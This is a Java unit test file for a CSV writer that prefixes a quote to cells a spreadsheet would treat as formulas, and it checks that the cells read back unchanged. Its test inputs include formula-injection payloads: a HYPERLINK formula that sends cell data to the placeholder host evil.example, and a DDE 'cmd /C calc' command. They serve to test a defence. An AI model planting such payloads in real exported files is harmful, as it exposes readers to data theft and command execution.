package fr.ctg.base.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Cells a spreadsheet would run as formulas are written quoted-out, and read back as typed. */
class CsvTableTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")", "+1+1", "-1+1", "@SUM(A1)",
            "\tcmd", "\rcmd", "=1"})
    void aFormulaCellIsPrefixedWithAQuoteAndRestoredOnReading(String cell) {
        assertThat(CsvTable.neutralised(cell)).isEqualTo("'" + cell);
        assertThat(CsvTable.restored(CsvTable.neutralised(cell))).isEqualTo(cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Familles rurales", "-12", "-12,5", "-0.25", "'déjà cité", "'", "a=b"})
    void otherCellsAreLeftAsTheyAre(String cell) {
        assertThat(CsvTable.neutralised(cell)).isEqualTo(cell);
        assertThat(CsvTable.restored(cell)).isEqualTo(cell);
    }

    @Test
    void theFileIsRfc4180WithABomAndNoCellStartsAFormula() {
        String csv = new String(CsvTable.write(';', List.of("nom", "note"),
                List.of(List.of("=cmd|' /C calc'!A0", "a;b"))), StandardCharsets.UTF_8);
        assertThat(csv).isEqualTo("\uFEFFnom;note\r\n'=cmd|' /C calc'!A0;\"a;b\"\r\n");
    }
}
